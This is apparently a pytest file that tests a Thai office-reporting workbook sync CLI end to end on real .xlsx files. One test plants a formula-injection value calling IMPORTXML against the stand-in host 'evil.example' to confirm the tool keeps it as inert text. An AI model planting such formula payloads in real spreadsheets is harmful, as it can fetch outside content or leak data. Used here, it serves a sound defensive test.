"""The workbook path end to end, through the CLI, on real .xlsx files."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from sheetsync.app.sync import office_now, sync_office
from sheetsync.backends.xlsx import WorkbookBackend
from sheetsync.core import problems, vocab
from sheetsync.store.config import load_office
from tests.support.cli import DEMO_DAY, all_cells, invoke, user_cells

POLICY = "นโยบายและแผน"
STATUS = "สถานะภาพรวม"


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def header_map(ws) -> dict[str, int]:
    return {c.value: c.column for c in ws[1] if c.value is not None}


def status_by_code(path: Path, tab: str) -> dict[str, tuple]:
    ws = openpyxl.load_workbook(path)[tab]
    h = header_map(ws)
    out = {}
    for r in range(2, ws.max_row + 1):
        code = ws.cell(r, h["รหัสตัวบ่งชี้"]).value
        if code is not None:
            out[str(code)] = (ws.cell(r, h["สถานะ"]).value, ws.cell(r, h["ข้อผิดพลาด"]).value)
    return out


def test_demo_builds_a_synced_office(demo_dir: Path) -> None:
    book = demo_dir / "office.xlsx"
    wb = openpyxl.load_workbook(book)
    office = load_office(demo_dir)
    assert set(wb.sheetnames) == {g.tab for g in office.groups} | {STATUS, "ผลงานที่ประสบผลสำเร็จ"}
    policy = status_by_code(book, POLICY)
    assert policy["1.1"][0] == vocab.STATE_VALID
    assert policy["1.3"][0] == vocab.STATE_INVALID
    assert "J3: หลักฐานอ้างอิง" in policy["1.3"][1]
    status = wb[STATUS]
    assert status["A1"].value.startswith(vocab.ST_TITLE)
    assert status["A2"].value == vocab.ST_SYNCED_AT
    assert "๒๕๗๐" in status["B2"].value  # synced on the demo day, B.E. year in Thai digits
    texts = [c.value for row in status.iter_rows() for c in row if isinstance(c.value, str)]
    assert "กลุ่มนิเทศ ติดตามและประเมินผลการจัดการศึกษา" in texts  # a line per group
    assert any(t.startswith("เลยกำหนด: ยังไม่ได้รายงานผล") for t in texts)  # the late list
    # next deadline: round 6 is past due and in its grace: the new deadline asked of the late groups
    # (7 working days from Mon 5 Apr 2027: 7, 8, 9, 12, 16, 19, 20 Apr; 6 Apr Chakri Day and 13-15 Songkran off)
    assert "รายงานผลการดำเนินงานรอบ ๖ เดือน" in texts
    assert "๒๐ เมษายน ๒๕๗๐" in texts
    assert vocab.DEADLINE_EXTENDED.format(due="๓๑ มี.ค. ๒๕๗๐") in texts


def test_demo_prints_where_things_are(tmp_path: Path, runner) -> None:
    from sheetsync.cli.main import cli

    result = runner.invoke(cli, ["demo", str(tmp_path / "d"), "--today", DEMO_DAY])
    assert result.exit_code == 0, result.output
    assert str((tmp_path / "d" / "office.xlsx").resolve()) in result.output
    assert "ตรวจสอบภายใน!L2" in result.output  # the two-digit year, by cell
    # Refuses to build over a folder that holds something else.
    other = tmp_path / "other"
    other.mkdir()
    (other / "notes.txt").write_text("mine")
    refused = runner.invoke(cli, ["demo", str(other)])
    assert refused.exit_code == 2
    assert (other / "notes.txt").read_text() == "mine"


def test_sync_json_summary(demo_dir: Path, runner) -> None:
    result = invoke(runner, demo_dir, "sync", "--json", "--today", DEMO_DAY)
    assert result.exit_code == 0, result.output
    summary = json.loads(result.output)
    for key in ("rows", "valid_rows", "cells_written", "requests", "overall", "errors", "documents"):
        assert key in summary
    assert summary["requests"] == 0
    # Each row by the state its status cell says (the demo: 2 rows with targets only, 1 nobody typed in,
    # 2 still lacking an explanation or a criterion's evidence, 1 awaiting its head's sign-off).
    assert summary["rows"] == 20 and summary["valid_rows"] == 9 and summary["error_rows"] == 5
    assert (summary["target_rows"], summary["draft_rows"], summary["not_reported_rows"]) == (2, 0, 1)
    assert (summary["incomplete_rows"], summary["unsigned_rows"]) == (2, 1)
    assert {n["code"] for n in summary["notices"]} == {"explanation-needed", "evidence-per-criterion"}
    assert summary["overall"]["level"] == "ดีมาก"
    errors = {(e["tab"], e["cell"]): e for e in summary["errors"]}
    assert errors[("ส่งเสริมการจัดการศึกษา", "F3")]["code"] == "type-error"
    assert "ที่กรอกไว้ 'ประมาณแปดสิบ' ไม่ใช่ตัวเลข กรุณากรอกเป็นตัวเลข" in errors[("ส่งเสริมการจัดการศึกษา", "F3")]["message"]
    assert errors[("ศึกษาทางไกลและไอซีที", "A3")]["code"] == "unknown-code"
    assert errors[("ตรวจสอบภายใน", "L2")]["code"] == "ambiguous-date"


def test_every_error_of_the_json_summary_is_a_problem_of_the_catalogue(demo_dir: Path, runner) -> None:
    result = invoke(runner, demo_dir, "sync", "--json", "--today", DEMO_DAY)
    assert result.exit_code == 0, result.output
    errors = json.loads(result.output)["errors"]
    assert len(errors) >= 5  # the demo's data is partly wrong on purpose
    for error in errors:
        assert {"tab", "cell", "code", "message"} <= error.keys(), error
        assert error["code"] in problems.CODES, error
        assert error["message"], error
    # The demo shows several kinds of problem, not one kind many times.
    assert len({e["code"] for e in errors}) >= 3


def test_second_sync_same_day_rewrites_only_the_time(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    before = all_cells(book)
    result = invoke(runner, demo_dir, "sync", "--json", "--today", DEMO_DAY)
    assert result.exit_code == 0
    assert json.loads(result.output)["cells_written"] <= 1
    after = all_cells(book)
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    assert changed <= {(STATUS, "B2")}


def _sync_and_compare(book: Path, config: Path, runner) -> None:
    before = user_cells(book)
    result = invoke(runner, config, "sync", "--today", DEMO_DAY)
    assert result.exit_code == 0, result.output
    assert user_cells(book) == before


def test_user_cells_untouched(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    # Someone edits after the demo sync: the next sync must leave every typed cell as it is.
    wb = openpyxl.load_workbook(book)
    ws = wb[POLICY]
    ws["J3"] = "1-2: รายงานการประชุมเครือข่าย"
    ws["M2"] = "=1+1"  # a formula a person typed stays a formula
    wb.save(book)
    _sync_and_compare(book, demo_dir, runner)
    assert status_by_code(book, POLICY)["1.3"][0] == vocab.STATE_VALID
    assert openpyxl.load_workbook(book)[POLICY]["M2"].value == "=1+1"


def test_reordered_columns_and_hidden_column(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    wb = openpyxl.load_workbook(book)
    ws = wb[POLICY]
    # Swap "เป้าหมาย" (C) and "วันที่รายงาน" (L), and hide "หน่วยนับ" (E).
    for r in range(1, ws.max_row + 1):
        ws.cell(r, 3).value, ws.cell(r, 12).value = ws.cell(r, 12).value, ws.cell(r, 3).value
    ws.column_dimensions["E"].hidden = True
    wb.save(book)
    _sync_and_compare(book, demo_dir, runner)
    status = status_by_code(book, POLICY)
    assert status["1.1"][0] == vocab.STATE_VALID  # dates still read from their moved column
    assert "J3:" in status["1.3"][1]


def test_inserted_and_deleted_rows(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    wb = openpyxl.load_workbook(book)
    ws = wb[POLICY]
    ws.insert_rows(2, amount=2)  # two blank rows above 1.1
    ws.cell(3, 3).value = "บันทึกเพิ่มเติมในแถวว่าง"  # a row with data but no code: an error on it
    wb["อำนวยการ"].delete_rows(2)  # 1.1 deleted from กลุ่มอำนวยการ
    wb.save(book)
    _sync_and_compare(book, demo_dir, runner)
    status = status_by_code(book, POLICY)
    assert status["1.1"][0] == vocab.STATE_VALID
    assert status["1.3"][0] == vocab.STATE_INVALID and "J5:" in status["1.3"][1]  # moved down two rows
    ws = openpyxl.load_workbook(book)[POLICY]
    assert ws.cell(3, 14).value == vocab.STATE_INVALID  # the code-less row is told why
    assert "A3" in ws.cell(3, 15).value
    late = [c.value for row in openpyxl.load_workbook(book)[STATUS].iter_rows() for c in row]
    assert vocab.missing_row("1.1") in " ".join(str(v) for v in late if v)


def test_rows_moved_between_read_and_write(demo_dir: Path) -> None:
    """A person inserts a row while the sync runs: the sync reads again and writes beside the right rows."""
    office = load_office(demo_dir)
    book = demo_dir / "office.xlsx"
    # Clear the status columns so the sync has row writes to make.
    wb = openpyxl.load_workbook(book)
    ws = wb[POLICY]
    for r in range(2, 4):
        for c in range(14, 19):
            ws.cell(r, c).value = None
    wb.save(book)

    class Interfering(WorkbookBackend):
        reads = 0

        def read(self, tabs, on_tab=None):
            tables = super().read(tabs, on_tab)
            Interfering.reads += 1
            if Interfering.reads == 1:
                other = openpyxl.load_workbook(self.path)
                other[POLICY].insert_rows(2)
                other.save(self.path)
            return tables

    before = user_cells(book)
    summary, _ = sync_office(office, Interfering(book), office_now(office, __import__("datetime").date(2027, 4, 5)))
    assert summary.attempts == 2
    status = status_by_code(book, POLICY)
    assert status["1.1"][0] == vocab.STATE_VALID
    assert status["1.3"][0] == vocab.STATE_INVALID and "J4:" in status["1.3"][1]
    after = user_cells(book)
    # Only the inserted row shifted people's cells; nothing they typed changed.
    assert sorted(map(str, before.values())) == sorted(map(str, after.values()))


def test_formula_looking_values_stay_text(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    wb = openpyxl.load_workbook(book)
    ws = wb[POLICY]
    ws["D3"] = '=IMPORTXML("http://evil.example","//a")'
    ws["D3"].data_type = "s"  # typed as text ('=...)
    wb.save(book)
    result = invoke(runner, demo_dir, "sync", "--today", DEMO_DAY)
    assert result.exit_code == 0
    wb = openpyxl.load_workbook(book)
    assert wb[POLICY]["D3"].data_type == "s"
    assert "=IMPORTXML" in wb[POLICY]["O3"].value  # quoted in the error, as text
    with zipfile.ZipFile(book) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in z.read(n).decode() for n in sheets)  # nothing anywhere is a formula
        assert any("IMPORTXML" in z.read(n).decode() for n in [*sheets, "xl/sharedStrings.xml"] if n in z.namelist())


@pytest.mark.parametrize("lock_name", [".~lock.office.xlsx#", "~$office.xlsx"])
def test_lock_file_refusal_leaves_file_identical(demo_dir: Path, runner, lock_name: str) -> None:
    book = demo_dir / "office.xlsx"
    (demo_dir / lock_name).write_text("someone,host,2027-04-05")
    digest = sha(book)
    result = invoke(runner, demo_dir, "sync", "--today", DEMO_DAY)
    assert result.exit_code == 1
    assert "เปิดอยู่" in result.output and lock_name in result.output
    assert "Traceback" not in result.output
    assert sha(book) == digest
    setup = invoke(runner, demo_dir, "setup")
    assert sha(book) == digest  # setup finds nothing to do; it would refuse too
    assert setup.exit_code == 0
    dry = invoke(runner, demo_dir, "sync", "--dry-run", "--today", DEMO_DAY)
    assert dry.exit_code == 0 and sha(book) == digest


def test_dry_run_changes_nothing(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    wb = openpyxl.load_workbook(book)
    wb[POLICY]["J3"] = "1-2: หลักฐานใหม่"
    wb.save(book)
    digest = sha(book)
    result = invoke(runner, demo_dir, "sync", "--dry-run", "--today", DEMO_DAY)
    assert result.exit_code == 0, result.output
    assert "ไม่ได้เขียนอะไร" in result.output
    assert f"{POLICY}!N3 = '{vocab.STATE_VALID}'" in result.output
    assert sha(book) == digest


def test_setup_twice_changes_nothing_and_keeps_typed_cells(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    digest = sha(book)
    result = invoke(runner, demo_dir, "setup")
    assert result.exit_code == 0 and "ไม่มีอะไรต้องแก้ไข" in result.output
    assert sha(book) == digest
    # A group deleted its note column and a row: setup puts them back, keeping what was typed.
    wb = openpyxl.load_workbook(book)
    ws = wb[POLICY]
    ws.delete_cols(13)  # หมายเหตุ
    ws.delete_rows(3)  # 1.3
    wb.save(book)
    before = user_cells(book)
    result = invoke(runner, demo_dir, "setup")
    assert result.exit_code == 0
    after = user_cells(book)
    assert all(after[k] == v for k, v in before.items())
    ws = openpyxl.load_workbook(book)[POLICY]
    assert "หมายเหตุ" in header_map(ws)
    assert "1.3" in status_by_code(book, POLICY)
    assert invoke(runner, demo_dir, "setup").output.strip().endswith("ไม่มีอะไรต้องแก้ไข")


def test_setup_protects_status_columns(example_config: Path, runner) -> None:
    result = invoke(runner, example_config, "setup")
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(example_config / "office.xlsx")
    ws = wb["พัฒนาครูและบุคลากร"]
    h = header_map(ws)
    assert ws.protection.sheet
    assert ws.freeze_panes == "C2"
    assert not ws.cell(2, h["ผลการดำเนินงาน"]).protection.locked
    assert ws.cell(2, h["สถานะ"]).protection.locked
    assert [ws.cell(r, 1).value for r in (2, 3)] == ["1.2", "2.3"]
    # The level dropdown lists the levels as the office names them (here the default names).
    assert any(dv.formula1 == '"5 ดีเยี่ยม,4 ดีมาก,3 ดี,2 พอใช้,1 ปรับปรุง"' for dv in ws.data_validations.dataValidation)
    assert wb["สถานะภาพรวม"].protection.sheet


def test_bad_config_exits_2_and_missing_workbook_exits_1(example_config: Path, runner) -> None:
    missing = invoke(runner, example_config, "sync")
    assert missing.exit_code == 1
    assert "sheetsync setup" in missing.output
    text = (example_config / "standards.yaml").read_text()
    (example_config / "standards.yaml").write_text(text.replace("owners: [finance]", "owners: [fiance]"))
    bad = invoke(runner, example_config, "sync")
    assert bad.exit_code == 2
    assert "standards.yaml" in bad.output and "fiance" in bad.output
    assert "Traceback" not in bad.output


def test_backup_kept_beside_the_workbook(demo_dir: Path) -> None:
    assert (demo_dir / "office.bak.xlsx").exists()
    openpyxl.load_workbook(demo_dir / "office.bak.xlsx")  # a whole, readable workbook


def test_real_subprocess(demo_dir: Path) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "sheetsync", "sync", "--json", "--today", DEMO_DAY],
        capture_output=True, text=True, env={**__import__("os").environ, "SHEETSYNC_CONFIG": str(demo_dir)},
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["rows"] == 20
    bad = subprocess.run([sys.executable, "-m", "sheetsync", "--config", str(demo_dir / "nope"), "sync"],
                         capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr


def test_one_read_and_one_write_per_sync(demo_dir: Path, monkeypatch) -> None:
    import sheetsync.backends.xlsx as xlsx

    loads, saves = [], []
    real_load, real_rewrite = openpyxl.load_workbook, xlsx.xlsxparts.rewrite
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: loads.append(a) or real_load(*a, **k))
    monkeypatch.setattr(xlsx.xlsxparts, "rewrite", lambda *a, **k: saves.append(1) or real_rewrite(*a, **k))
    real_fast = xlsx.CalamineWorkbook.from_filelike  # the read is calamine's where it answers exactly

    class Counted:
        @staticmethod
        def from_filelike(*a, **k):
            return loads.append(a) or real_fast(*a, **k)

    monkeypatch.setattr(xlsx, "CalamineWorkbook", Counted)
    office = load_office(demo_dir)
    wb = openpyxl.load_workbook(demo_dir / "office.xlsx")
    for tab in (POLICY, "อำนวยการ"):
        wb[tab]["N2"] = None  # some status to rewrite in two tabs
    wb.save(demo_dir / "office.xlsx")
    loads.clear()
    summary, _ = sync_office(office, WorkbookBackend(demo_dir / "office.xlsx"),
                             office_now(office, __import__("datetime").date(2027, 4, 5)))
    assert summary.cells_written >= 2
    assert len(loads) == 1 and len(saves) == 1  # all ten group tabs, outputs and Status in one load and one save


def test_missing_tab_exits_1_after_syncing_the_rest(demo_dir: Path, runner) -> None:
    book = demo_dir / "office.xlsx"
    wb = openpyxl.load_workbook(book)
    wb.remove(wb[POLICY])  # a group deleted its tab (one renamed with its rows is found by them: mistakes/)
    wb["อำนวยการ"]["N2"] = None
    wb.save(book)
    result = invoke(runner, demo_dir, "sync", "--today", DEMO_DAY)
    assert result.exit_code == 1
    assert "sheetsync setup" in result.stderr and POLICY in result.stderr
    assert status_by_code(book, "อำนวยการ")["1.1"][0] == vocab.STATE_VALID  # the rest was synced
